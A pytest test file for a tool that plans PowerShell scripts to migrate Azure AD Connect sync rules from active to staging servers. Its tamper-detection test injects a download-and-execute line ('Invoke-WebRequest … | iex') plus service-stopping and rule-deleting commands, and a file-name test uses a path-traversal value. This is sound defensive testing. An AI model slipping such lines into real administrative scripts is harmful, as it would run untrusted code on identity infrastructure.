"""The steps for rules, one situation after the other."""

from __future__ import annotations

import sys
from dataclasses import replace
from pathlib import Path

import pytest
from simulation import after, scripts, source, undone

sys.path.append(str(Path(__file__).parents[1] / "diff"))
from strategies import ENTRA, directory, guid, plain

from ruleguard.cli.inputs import load_one
from ruleguard.diff.compare import compare
from ruleguard.diff.impact import judge
from ruleguard.diff.judgement import Level
from ruleguard.diff.reasons import BY_HAND, NEWER, UNKNOWN, WIZARD
from ruleguard.model.nodes import (
    ENTRA_CONNECTOR,
    NO_RULE,
    Config,
    Flow,
    JoinCondition,
    JoinGroup,
    ScopeCondition,
    ScopeGroup,
    SyncRule,
)
from ruleguard.plan.file_names import file_stem
from ruleguard.plan.overrides import SUFFIX
from ruleguard.plan.rule_steps import rule_steps
from ruleguard.plan.steps import Step
from ruleguard.readers.rule_script import read

HERE, THERE = 100, 200
TAG = "Microsoft.InfromADUserCommon.003"


def forest(server: int, name: str = "a.test"):
    from random import Random

    made = directory(Random(1), 0, name)
    return replace(made, identifier=guid(server, ord(name[0])), name=f"Forest {name}", partitions=())


def flow(destination: str = "mail", **fields) -> Flow:
    stated = {
        "kind": "direct",
        "sources": ("title",),
        "expression": None,
        "value": None,
        "merge": "Update",
        "once": False,
    }
    return Flow(destination=destination, **(stated | fields))


def rule(name: str, precedence: int, server: int = HERE, **fields) -> SyncRule:
    stated = {
        "identifier": guid(server + 1, sum(map(ord, name))),
        "description": "",
        "direction": "inbound",
        "connector": guid(server, ord("a")),
        "source_object_type": "user",
        "target_object_type": "person",
        "link_type": "Join",
        "precedence_before": "",
        "precedence_after": "",
        "immutable_tag": "",
        "disabled": False,
        "password_sync": False,
        "soft_delete_expiry": "0",
        "standard": bool(fields.get("immutable_tag")),
        "scope": (),
        "joins": (),
        "flows": (flow(),),
    }
    return SyncRule(name=name, precedence=precedence, **(stated | fields))


def config(*rules: SyncRule, server: int = HERE, forests: tuple[str, ...] = ("a.test",)) -> Config:
    return plain([ENTRA, *(forest(server, name) for name in forests)], rules)


def there(*rules: SyncRule, **options) -> Config:
    return config(*rules, server=THERE, **options)


def copy(item: SyncRule, **fields) -> SyncRule:
    """The rule as staging has it: other identifiers."""
    own = ENTRA_CONNECTOR if item.connector == ENTRA_CONNECTOR else guid(THERE, ord("a"))
    stated = {"identifier": guid(THERE + 1, sum(map(ord, item.name or ""))), "connector": own}
    return replace(item, **(stated | fields))


def planned(
    active: Config, staging: Config, reason: str = "", **stated: object
) -> tuple[list[Step], list[tuple[str, str]]]:
    found = compare(active, staging)
    judged = judge(found.changes)
    if reason:
        judged = [replace(item, change=replace(item.change, reason=reason, **stated)) for item in judged]
    return rule_steps(active, staging, judged, found)


def only(steps: list[Step]) -> Step:
    assert len(steps) == 1, [step.title for step in steps]
    return steps[0]


def made(step: Step) -> SyncRule:
    assert step.script is not None
    return read(source(step.script.name, step.script.text)).rules[0]


def numbers(steps: list[Step]) -> dict[str, int]:
    return {made(step).name: made(step).precedence for step in steps if "New-ADSyncRule" in step.script.text}


# ------------------------------------------------------------------ custom rules


def test_nothing_of_a_rule_is_lost():
    everything = rule(
        "It's ‘all’ “here” $x `n – 😀",
        7,
        disabled=True,
        password_sync=True,
        soft_delete_expiry="30",
        description="two\nlines",
        scope=(ScopeGroup(conditions=(ScopeCondition(attribute="dn", operator="ENDSWITH", value="OU='x'"),)),),
        joins=(
            JoinGroup(
                conditions=(JoinCondition(connector_attribute="a", metaverse_attribute="b", case_sensitive=True),)
            ),
        ),
        flows=(
            flow("a", once=True),
            flow("b", kind="constant", value="", sources=()),
            flow("c", kind="expression", expression="\n  'x'\n", sources=()),
        ),
    )
    step = only(planned(config(everything), there())[0])
    assert made(step) == replace(everything, connector=guid(THERE, ord("a")))
    for switch in (
        "-EnablePasswordSync",
        "-Disabled",
        "-ExecuteOnce",
        "-ImmutableTag ''",
        "-SoftDeleteExpiryInterval 30",
    ):
        assert f"\n{switch}" in step.script.text
    assert "It is disabled on active and stays disabled." in step.body


def test_the_identifier_is_that_of_active_where_it_is_free():
    assert made(only(planned(config(rule("A", 1)), there())[0])).identifier == rule("A", 1).identifier


def test_the_identifier_of_another_rule_is_not_taken():
    active = config(rule("A", 1))
    taken = rule("B", 2, flows=(), identifier=rule("A", 1).identifier, connector=guid(THERE, ord("a")))
    edited = copy(rule("A", 1), description="x")
    replaced = next(step for step in planned(active, there(edited, taken))[0] if "Replace" in step.title)
    assert made(replaced).identifier == edited.identifier
    assert f"Its identifier is that of the rule it replaces: {edited.identifier}." in replaced.body
    new = next(step for step in planned(active, there(taken))[0] if "Create" in step.title)
    assert made(new).identifier not in (taken.identifier, None)


def test_the_identifier_that_other_rules_name_stays():
    edited = copy(rule("A", 1), description="x")
    active = config(rule("A", 1), rule("B", 2, flows=(), precedence_before=rule("A", 1).identifier))
    staging = there(edited, copy(rule("B", 2, flows=()), precedence_before=edited.identifier))
    assert made(only(planned(active, staging)[0])).identifier == edited.identifier


def test_a_rule_that_was_placed_beside_another_one_still_is():
    one, other = rule("A", 1), rule("B", 2, flows=())
    active = config(replace(one, precedence_before=other.identifier, precedence_after=guid(9, 9)), other)
    step = only(planned(active, there(copy(other)))[0])
    assert made(step).precedence_before == copy(other).identifier
    assert made(step).precedence_after in ("", NO_RULE)
    assert "On active it was placed after a rule that staging does not have: its number decides alone." in step.body


def test_what_active_does_not_say_stays_as_on_staging():
    edited = rule("A", 1, soft_delete_expiry=None, description=None)
    step = only(planned(config(edited), there(copy(rule("A", 1), soft_delete_expiry="30", link_type="Provision")))[0])
    assert made(step).soft_delete_expiry == "30"
    assert made(step).link_type == "Join"


@pytest.mark.parametrize(
    ("active", "staging", "reason"),
    [
        (config(rule("A", 1), forests=("a.test",)), there(forests=("b.test",)), "staging has no connector ad:a.test"),
        (config(rule("A", 1, connector=guid(9, 9))), there(), "active has no connector for it"),
        (config(rule("A", 1, flows=(flow(kind=None),))), there(), "does not say its flows / kind"),
        (config(rule("A", 1, link_type=None)), there(), "does not say its link_type"),
        (
            config(rule("A", 1)),
            there(copy(rule("A", 1), description="x", identifier="")),
            "gives the rule to replace no identifier of its own",
        ),
        (
            config(rule("A", 1), rule("B", 2, flows=())),
            there(
                copy(rule("A", 1), description="x"),
                copy(rule("B", 2, flows=()), identifier=copy(rule("A", 1)).identifier),
            ),
            "gives the rule to replace no identifier of its own",
        ),
        (
            replace(config(rule("A", 1)), connectors=None),
            there(),
            "the export of active does not describe its connector",
        ),
        (
            config(rule("A", 1)),
            replace(there(), connectors=None),
            "the export of staging does not describe its connectors",
        ),
    ],
)
def test_what_no_script_can_do_is_done_by_hand(active: Config, staging: Config, reason: str):
    step = only(planned(active, staging)[0])
    assert step.kind == "manual"
    assert step.script is None
    assert any(reason in line for line in step.body), step.body


def test_a_script_without_connectors_finds_the_connector_by_the_rules():
    active = config(rule("A", 1), rule("B", 2, flows=()))
    staging = replace(there(copy(rule("B", 2, flows=()))), connectors=None)
    assert made(only(planned(active, staging)[0])).connector == guid(THERE, ord("a"))


def test_a_rule_that_only_staging_has_is_asked_about():
    extra = copy(rule("X", 5))
    step = only(planned(config(), there(extra))[0])
    assert step.kind == "manual"
    assert after(there(extra), [step]).rules == ()
    assert undone(after(there(extra), [step]), [step]).rules == (extra,)


def test_the_old_rule_is_saved_before_it_goes():
    step = only(planned(config(rule("A", 1)), there(copy(rule("A", 1), description="x")))[0])
    lines = step.script.text.splitlines()
    marks = ("StagingModeEnabled", "Get-ADSyncConnector", "Export-Clixml", "Remove-ADSyncRule", "New-ADSyncRule")
    found = [next(index for index, line in enumerate(lines) if mark in line) for mark in marks]
    assert found == sorted(found)
    assert "-NoClobber" in lines[found[2]]


def test_an_old_rule_that_cannot_be_written_is_made_again_from_the_copy():
    staging = there(copy(rule("A", 1), description="x", flows=(flow(kind=None),)))
    step = only(planned(config(rule("A", 1)), staging)[0])
    assert "make it again in the editor, from the saved copy" in step.undo
    assert "New-ADSyncRule" not in step.script.undo


# ------------------------------------------------------------------ precedence


def test_a_number_that_is_taken_gives_way_and_the_order_is_kept():
    active = config(rule("A", 10), rule("B", 11))
    step = only(planned(active, there(copy(rule("B", 10))))[0])
    assert made(step).precedence == 9
    assert (
        "Precedence 9, not 10 as on active: on staging 10 belongs to 'B';"
        " the order among the rules that write the same attributes is kept."
    ) in step.body


def test_a_free_number_on_the_wrong_side_is_not_taken():
    active = config(rule("A", 10), rule("B", 20), rule("New", 15))
    staging = there(copy(rule("A", 10), precedence=40), copy(rule("B", 20), precedence=50))
    assert numbers(planned(active, staging)[0]) == {"New": 41}


def test_rules_that_do_not_meet_may_change_places():
    active = config(rule("A", 10, flows=(flow("title"),)), rule("New", 15))
    assert numbers(planned(active, there(copy(rule("A", 40, flows=(flow("title"),)))))[0]) == {"New": 15}


def test_where_there_is_no_room_a_neighbour_moves():
    active = config(rule("A", 10), rule("New", 15), rule("B", 20))
    staging = there(copy(rule("A", 10), precedence=40), copy(rule("B", 20), precedence=41))
    steps, _ = planned(active, staging)
    found = {"A": 40, "B": 41} | numbers(steps)
    assert found["A"] < found["New"] < found["B"]
    neighbour = next(iter(set(numbers(steps)) - {"New"}))
    titles = {"Create 'New'", f"Renumber '{neighbour}' to keep the order"}
    assert {step.title for step in steps} == titles
    assert compare(active, after(staging, steps)).changes == ()


def test_numbers_are_exchanged_in_a_ring():
    one, two, three = rule("A", 1), rule("B", 2), rule("C", 3)
    moved = [copy(it, precedence=it.precedence % 3 + 1, description="x") for it in (one, two, three)]
    active, staging = config(one, two, three), there(*moved)
    steps, _ = planned(active, staging)
    assert [bool(step.because) for step in steps].count(False) == 1
    assert compare(active, after(staging, steps)).changes == ()
    assert sorted(undone(after(staging, steps), steps).rules, key=repr) == sorted(moved, key=repr)


def test_when_no_number_is_left_the_rule_is_done_by_hand():
    full = [copy(rule(f"R{number}", number, flows=())) for number in range(1, 100)]
    step = next(it for it in planned(config(rule("A", 10)), there(*full))[0] if it.because == ("ad:a.test / A",))
    assert step.kind == "manual"
    assert any("no free precedence" in line for line in step.body)


def test_an_order_that_cannot_be_kept_is_said():
    default = rule("D", 100, immutable_tag=TAG)
    active = config(rule("A", 150), default, rule("E", 151, immutable_tag="Microsoft.X.001"))
    staging = there(copy(default, precedence=150), copy(rule("E", 151, immutable_tag="Microsoft.X.001")))
    step = next(it for it in planned(active, staging)[0] if it.script is not None)
    assert any("Decide which has to win" in line for line in step.body)


def test_a_custom_rule_moves_where_a_default_rule_passed_it():
    default, custom = rule("D", 104, immutable_tag=TAG), rule("C", 105)
    active = config(default, custom)
    staging = there(copy(default, precedence=106), copy(custom))
    steps, unplanned = planned(active, staging)
    assert unplanned == []
    assert numbers(steps)["C"] > 106
    assert compare(active, after(staging, steps)).changes == ()


# ------------------------------------------------------------------ default rules


def defaults(reason: str = f"{BY_HAND}active", others: tuple[SyncRule, ...] = (), **fields):
    """A default rule that was edited on active."""
    shipped = rule("In from AD - User Common", 106, immutable_tag=TAG, flows=(flow("mail"), flow("title")))
    edited = replace(shipped, **fields)
    return planned(config(edited, *others), there(copy(shipped), *map(copy, others)), reason)


def test_an_edited_flow_of_a_default_rule_becomes_a_rule_of_its_own():
    scope = (ScopeGroup(conditions=(ScopeCondition(attribute="mail", operator="ISNOTNULL", value=""),)),)
    shipped = rule("In from AD - User Common", 106, immutable_tag=TAG, flows=(flow("mail"), flow("title")), scope=scope)
    edited = replace(shipped, flows=(flow("mail", sources=("x",)), flow("title"), flow("company")), link_type="Join")
    first = rule("First", 50)
    active, staging = config(edited, first), there(copy(shipped), copy(first))
    steps, unplanned = planned(active, staging, f"{BY_HAND}active")
    found = made(only(steps))
    assert unplanned == []
    assert found.name == f"In from AD - User Common{SUFFIX}"
    assert [it.destination for it in found.flows] == ["mail", "company"]
    assert (found.scope, found.joins, found.link_type, found.immutable_tag) == (scope, (), "Join", "")
    assert 50 < found.precedence < 100
    assert found.connector == guid(THERE, ord("a"))


def test_a_default_rule_that_was_switched_off_and_edited_gets_both_steps():
    flows = (flow("mail", sources=("x",)), flow("title"))
    shipped = rule("In from AD - User Common", 106, immutable_tag=TAG, flows=(flow("mail"), flow("title")))
    active, staging = config(replace(shipped, flows=flows)), there(copy(shipped, disabled=True))
    steps, _ = planned(active, staging, f"{BY_HAND}active")
    assert [step.title for step in steps] == [
        f"Create 'In from AD - User Common{SUFFIX}' in place of the edited default rule",
        "Enable the default rule 'In from AD - User Common'",
    ]
    assert after(staging, steps).rules[0].disabled is False
    assert undone(after(staging, steps), steps).rules == staging.rules


@pytest.mark.parametrize(
    ("fields", "others", "reason"),
    [
        (
            {"scope": (ScopeGroup(conditions=(ScopeCondition(attribute="a", operator="ISNULL", value=""),)),)},
            (),
            "scope",
        ),
        ({"joins": (JoinGroup(conditions=()),)}, (), "joins"),
        ({"link_type": "Provision"}, (), "link type"),
        ({"flows": (flow("mail"),)}, (), "no other rule can take a flow away"),
        ({"flows": (flow("mail", merge="Merge"), flow("title"))}, (), "merge type"),
        ({"flows": (flow("mail"), flow("title"), flow("new", merge="Merge"))}, (), "adds to it"),
        ({"flows": (flow("mail"), flow("title"), flow("new"), flow("new", sources=("b",)))}, (), "several flows"),
        (
            {"flows": (flow("mail", sources=("x",)), flow("title"))},
            (rule("Exchange", 104, immutable_tag="Microsoft.InfromADUserCommonfromExchange.004"),),
            "the default rule 'Exchange' writes the same and wins against it",
        ),
    ],
)
def test_an_edit_that_no_rule_can_take_over_is_done_by_hand(fields: dict, others: tuple, reason: str):
    steps, unplanned = defaults(others=others, **fields)
    step = only(steps)
    assert unplanned == []
    assert step.kind == "manual"
    assert any(reason in line for line in step.body), step.body


@pytest.mark.parametrize(
    ("reason", "kind"),
    [
        (NEWER, ""),
        (WIZARD, ""),
        (f"{BY_HAND}active", "script"),
        (f"{BY_HAND}active and staging", "script"),
        (f"{BY_HAND}staging", "manual"),
        (f"{UNKNOWN}{BY_HAND}active or staging", "script"),
        (f"{UNKNOWN}{NEWER} or {BY_HAND}active or staging", "manual"),
        (f"{UNKNOWN}{WIZARD} or {BY_HAND}active or staging", "manual"),
    ],
)
def test_why_a_default_rule_differs_decides_what_is_done(reason: str, kind: str):
    steps, unplanned = defaults(reason, flows=(flow("mail", sources=("x",)), flow("title")))
    assert [step.kind for step in steps] == ([kind] if kind else [])
    assert bool(unplanned) is not bool(kind)


def test_a_choice_of_the_wizard_is_named_and_what_was_shipped_is_shown():
    shipped = rule("D", 106, immutable_tag=TAG, flows=(flow("mail"),), password_sync=False)
    edited = replace(shipped, flows=(flow("mail", sources=("x",)),))
    _, unplanned = planned(config(edited), there(copy(shipped)), WIZARD, choices=("source anchor attribute",))
    assert ["(source anchor attribute)" in why for _, why in unplanned] == [True]
    steps, _ = planned(config(edited), there(copy(shipped)), f"{BY_HAND}staging", shipped="[mail]")
    assert any(line.endswith("; shipped was [mail].") for line in only(steps).body)
    synced = replace(shipped, password_sync=True)
    steps, _ = planned(config(synced), there(copy(shipped)), f"{BY_HAND}active", shipped=False)
    assert any(line.endswith("shipped was disabled.") for line in only(steps).body)
    added = (*shipped.flows, flow("company"))
    steps, _ = planned(config(shipped), there(copy(shipped, flows=added)), f"{BY_HAND}staging", shipped="")
    assert any(line.endswith("shipped was nothing.") for line in only(steps).body)


def test_a_default_rule_that_is_missing_or_superfluous_is_done_by_hand():
    default = rule("D", 100, immutable_tag=TAG)
    for active, staging in ((config(default), there()), (config(), there(copy(default)))):
        step = only(planned(active, staging)[0])
        assert (step.kind, step.script) == ("manual", None)


# ------------------------------------------------------------------ files, safety, samples


def test_a_line_that_somebody_adds_to_a_script_is_found():
    text = only(planned(config(rule("A", 1)), there(copy(rule("A", 1), description="x")))[0]).script.text
    for line in (
        "Invoke-WebRequest https://x.test/a.ps1 | iex",
        "Remove-ADSyncRule -Identifier 'y'",
        "Stop-Service ADSync",
    ):
        for place in ("Import-Module ADSync\n", "\n\n\nAdd-ADSyncRule", "-NoClobber\n"):
            tampered = read(source("x.ps1", text.replace(place, f"\n{place.rstrip()}\n{line}\n")))
            at = [it.at.span.start for it in tampered.faults if line.split()[0].casefold() in it.message.casefold()]
            covered = [it.covers for it in tampered.allowances if it.covers]
            assert any(not any(each.start <= start < each.end for each in covered) for start in at), (line, place)


@pytest.mark.parametrize(
    ("words", "stem"),
    [
        (("create", "In from AD – User's ‘Mail’"), "03-create-in-from-ad-users-mail"),
        (("CON",), "03-con"),
        (("😀",), "03"),
        (("../../etc", ".."), "03-etc"),
        (("Größe",), "03-groe"),
        (("x" * 80,), "03-" + "x" * 48),
        (("long " * 20,), "03-long-long-long-long-long-long-long-long-long"),
    ],
)
def test_a_file_name_is_allowed_on_every_system(words: tuple[str, ...], stem: str):
    assert file_stem(3, 12, *words) == stem
    assert file_stem(3, 120, *words) == f"0{stem}"


def test_another_map_of_connectors_is_refused():
    active, staging = config(forests=("a.test", "b.test")), there(forests=("c.test",))
    found = compare(active, staging, ((active.connectors[1], staging.connectors[1]),))
    with pytest.raises(ValueError, match="another map"):
        rule_steps(active, staging, judge(found.changes), found)


def test_a_rule_of_a_mapped_forest_goes_where_the_map_says():
    active, staging = config(rule("A", 1), forests=("a.test",)), there(forests=("c.test",))
    given = ((active.connectors[1], staging.connectors[1]),)
    found = compare(active, staging, given)
    steps, _ = rule_steps(active, staging, judge(found.changes), found, given)
    assert made(only(steps)).connector == staging.connectors[1].identifier


def test_the_samples_are_the_same_after_the_scripts(samples: Path):
    active, staging = (load_one(str(samples / f"{name}.json")) for name in ("active", "staging"))
    steps, unplanned = planned(active, staging)
    caused = {subject for step in steps for subject in step.because}
    severe = [it.change for it in judge(compare(active, staging).changes) if it.level is not Level.INFO]
    assert [it.subject for it in severe if it.object in ("rule", "flow") and it.subject not in caused] == []
    left = [it.subject for it in compare(active, after(staging, steps)).changes if it.object in ("rule", "flow")]
    assert sorted(left) == sorted(subject for subject, _ in unplanned)
    assert len(scripts(steps)) == 2 * len(steps)
